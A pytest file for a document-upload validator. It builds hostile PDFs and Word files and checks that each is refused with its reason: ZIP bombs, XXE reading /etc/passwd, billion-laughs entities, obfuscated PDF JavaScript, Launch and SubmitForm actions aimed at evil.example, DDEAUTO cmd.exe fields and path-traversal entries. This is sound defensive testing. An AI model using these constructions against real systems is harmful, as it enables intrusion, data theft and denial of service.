"""What somebody may send to do harm is refused with its reason; what only looks like it is taken."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from frankpledge.exchange.documents import apart, contents
from frankpledge.exchange.documents.faults import Fault, Refused
from tests.documents import MACROS, OFFICE, docx, first_of_more, pdf, zipped

N = first_of_more()
HYPERLINK = f'<Relationship Id="rId9" Type="{OFFICE}/hyperlink" Target="%s" TargetMode="External"/>'
REMOTE = f'<Relationship Id="rId9" Type="{OFFICE}/%s" Target="https://evil.example/x" TargetMode="External"/>'
BILLION = (
    '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {chr(99 + n)} "{"".join(f"&{chr(98 + n)};" for _ in range(10))}">' for n in range(8))
    + "]>"
)
XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def bomb() -> bytes:
    """A part of half a gigabyte of noughts, packed into half a megabyte."""
    return docx(parts={"word/media/image1.png": b"\0" * 500_000_000})


def lying_bomb() -> bytes:
    """A part that says it is small."""
    data = bytearray(docx(parts={"word/media/image1.png": b"\0" * 5_000_000}))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.rfind(mark)
        for _each in range(data.count(mark)):
            if (
                data[start:].find(b"image1.png") >= 0
                and struct.unpack_from("<I", data, start + place)[0] == 5_000_000
            ):
                struct.pack_into("<I", data, start + place, 1000)
            start = data.rfind(mark, 0, start)
    return bytes(data)


def overlapping() -> bytes:
    """Two entries that share the same packed bytes."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as files:
        first = files.infolist()[0]
        twin = zipfile.ZipInfo("word/other.xml")
        for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(twin, name, getattr(first, name))
        files.filelist.append(twin)
        files.NameToInfo[twin.filename] = twin
        files._didModify = True  # type: ignore[attr-defined]  # so that it writes its list anew
    return out.getvalue()


def prepended(data: bytes, before: bytes) -> bytes:
    """Bytes before a ZIP, whose own list is none the wiser."""
    return before + data


def encrypted_zip() -> bytes:
    data = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            data[start + place] |= 1
            start = data.find(mark, start + 1)
    return bytes(data)


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    out = io.BytesIO()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("a secret word", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def packed_script() -> bytes:
    """A script inside a packed stream of objects, where a look at the bytes finds no word of it."""
    inner = b"99 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inner)
    stream = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 99 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        stream,
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    rows = b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    rows += struct.pack(">BIH", 2, 4, 0) + struct.pack(">BIH", 1, start, 0)
    index = b"/Index [1 4 99 1 5 1]"
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 100 /W [1 4 2] %s /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
        % (
            index,
            len(rows),
            rows,
        )
    )
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


HOSTILE = {
    "nothing at all": (b"", Fault.EMPTY),
    "a page of the web": (b"<html><script>1</script></html>", Fault.NOT_A_DOCUMENT),
    "a program": (b"MZ\x90\0" * 100, Fault.NOT_A_DOCUMENT),
    "an old Word document, or a locked one": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Fault.OLD_OR_LOCKED,
    ),
    "a PDF behind something else": (b"GIF89a" + pdf(), Fault.POLYGLOT),
    "a PDF with a page of the web in it": (
        pdf().replace(b"%\xe2\xe3", b"%<script>\n%\xe2\xe3", 1), Fault.POLYGLOT,
    ),
    "a PDF that is a ZIP too": (pdf() + zipped({"a.txt": "x"}), Fault.POLYGLOT),
    "a PDF with something after its end": (pdf() + b"and more\n" * 50, Fault.POLYGLOT),
    "a PDF cut off": (pdf()[:-200], Fault.DAMAGED),
    "a locked PDF": (encrypted_pdf(), Fault.ENCRYPTED),
    "a PDF with a script when it opens": (
        pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), Fault.SCRIPT,
    ),
    "a PDF with a script by another spelling": (
        pdf(catalog=f"/OpenAction {N} 0 R", more=["<< /S /J#61vaScript /J#53 (1) >>"]), Fault.SCRIPT,
    ),
    "a PDF with a script packed away": (packed_script(), Fault.SCRIPT),
    "a PDF with a script nothing points at": (pdf(more=["<< /S /J#61vaScript /Any (1) >>"]), Fault.SCRIPT),
    "a PDF that starts a program": (
        pdf(page="/AA << /O << /S /Launch /F (cmd.exe) >> >>"), Fault.ACTION,
    ),
    "a PDF that sends itself": (
        pdf(catalog="/OpenAction << /S /SubmitForm /F (https://evil.example) >>"), Fault.ACTION,
    ),
    "a PDF that opens another file": (
        pdf(catalog="/OpenAction << /S /GoToR /F (//evil.example/x) >>"), Fault.ACTION,
    ),
    "a PDF with a file attached": (
        pdf(
            catalog=f"/Names << /EmbeddedFiles << /Names [(a) {N} 0 R] >> >>",
            more=["<< /Type /Filespec /F (a) >>"],
        ),
        Fault.EMBEDDED,
    ),
    "a PDF with a file pinned to a page": (
        pdf(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]"), Fault.EMBEDDED,
    ),
    "a PDF with a form of programs": (pdf(catalog="/AcroForm << /XFA (x) /Fields [] >>"), Fault.XFA),
    "a PDF marked SECRET": (pdf(["SECRET\nPlan of the operation"]), Fault.SECRET),
    "a PDF marked TOP SECRET at its last foot": (
        pdf(["One", "Two", "Three", "Four", "Five\nUK TOP SECRET - UK EYES ONLY"]), Fault.SECRET,
    ),
    "a ZIP that is no document": (zipped({"a.txt": "x"}), Fault.NOT_WORD),
    "a document of another program": (
        docx(main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        Fault.NOT_WORD,
    ),
    "a document with macros": (
        docx(parts={"word/vbaProject.bin": b"x"}, main_type=MACROS), Fault.MACRO,
    ),
    "macros by their type alone": (docx(main_type=MACROS), Fault.MACRO),
    "macros by another name": (
        docx(
            parts={"word/plain.xml": "<a/>"},
            types='<Override PartName="/word/plain.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        Fault.MACRO,
    ),
    "a document with a control": (docx(parts={"word/activeX/activeX1.xml": "<a/>"}), Fault.ACTIVE_PART),
    "a document in a document": (docx(parts={"word/embeddings/other.docx": docx()}), Fault.NESTED),
    "a ZIP called a picture": (docx(parts={"word/media/image1.png": zipped({"a": "x"})}), Fault.NESTED),
    "a program called a picture": (docx(parts={"word/media/image1.png": b"MZ" + b"\0" * 90}), Fault.NESTED),
    "a part of no known kind": (docx(parts={"word/run.ps1": "x"}), Fault.UNKNOWN_PART),
    "a template from elsewhere": (docx(rels=REMOTE % "attachedTemplate"), Fault.ELSEWHERE),
    "a picture from elsewhere": (docx(rels=REMOTE % "image"), Fault.ELSEWHERE),
    "a link into somebody's disk": (docx(rels=HYPERLINK % "file://server/share"), Fault.ELSEWHERE),
    "a field that starts a program": (
        docx(body="<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:r></w:p>"),
        Fault.ELSEWHERE,
    ),
    "something pasted in from a file": (docx(body='<w:altChunk r:id="rId5"/>'), Fault.NESTED),
    "an entity from a file": (docx(prolog=XXE), Fault.ENTITIES),
    "a billion laughs": (docx(paragraphs=["&i;"], prolog=BILLION), Fault.ENTITIES),
    "a ZIP bomb": (bomb(), Fault.BOMB),
    "a ZIP bomb that lies": (lying_bomb(), Fault.DAMAGED),
    "parts that share their bytes": (overlapping(), Fault.BOMB),
    "parts without end": (docx(parts={f"word/media/i{n}.png": b"" for n in range(4_100)}), Fault.BOMB),
    "a locked part": (encrypted_zip(), Fault.ENCRYPTED),
    "a part that climbs out": (docx(parts={"../../etc/cron.d/x.xml": "<a/>"}), Fault.BAD_PATHS),
    "a part from the root": (docx(parts={"/etc/x.xml": "<a/>"}), Fault.BAD_PATHS),
    "a part with another system's path": (docx(parts={"word\\..\\..\\x.xml": "<a/>"}), Fault.BAD_PATHS),
    "a part twice": (docx(parts={"WORD/Document.xml": "<a/>"}), Fault.BAD_PATHS),
    "something between the parts": (b"PK\x03\x04" + b"\0" * 500 + docx(), Fault.POLYGLOT),
    "something after the end": (docx() + b"#!/bin/sh\n" * 20, Fault.POLYGLOT),
    "broken XML": (docx(parts={"word/document.xml": "<w:document"}), Fault.DAMAGED),
    "a document marked SECRET in its header": (
        docx(
            parts={"word/header1.xml": '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                   "<w:p><w:r><w:t>SECRET</w:t></w:r></w:p></w:hdr>"},
            rels=f'<Relationship Id="rId7" Type="{OFFICE}/header" Target="header1.xml"/>',
        ),
        Fault.SECRET,
    ),
}  # fmt: skip
HARMLESS = {
    "a PDF": pdf(),
    "a PDF with a link": pdf(
        page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>]"
    ),
    "a PDF that opens at a page": pdf(catalog="/OpenAction [4 0 R /Fit]"),
    "a PDF that speaks of scripts and secrets": pdf(
        ["The Secretary of State keeps this SECRET from nobody.\nJavaScript is a language.\nTop secret? No."]
    ),
    "a PDF without text": pdf([""]),
    "a Word document": docx(),
    "a Word document with a link": docx(rels=HYPERLINK % "https://a.example/"),
    "a Word document with a picture": docx(
        parts={"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 90}
    ),
}


def looked_into(data: bytes, folder: Path) -> Fault | None:
    path = folder / "sent"
    path.write_bytes(data)
    try:
        contents.media_type(path)
        apart.look(path)
    except Refused as refused:
        return refused.fault
    return None


@pytest.mark.parametrize("what", HOSTILE)
def test_it_is_refused_with_its_reason(what: str, tmp_path: Path) -> None:
    data, fault = HOSTILE[what]
    assert looked_into(data, tmp_path) == fault
    assert [path.name for path in tmp_path.iterdir()] == ["sent"]


@pytest.mark.parametrize("what", HARMLESS)
def test_what_only_looks_like_it_is_taken(what: str, tmp_path: Path) -> None:
    assert looked_into(HARMLESS[what], tmp_path) is None


def test_a_file_that_would_take_for_ever_is_let_go_of(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(apart.SECONDS, "look", 0.05)
    assert looked_into(pdf(), tmp_path) == Fault.TOO_MUCH


def test_when_too_many_are_looked_into_the_next_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(apart, "SECONDS_TO_WAIT", 0.01)
    with apart._in_turn(), apart._in_turn():
        assert looked_into(pdf(), tmp_path) == Fault.BUSY
    assert looked_into(pdf(), tmp_path) is None
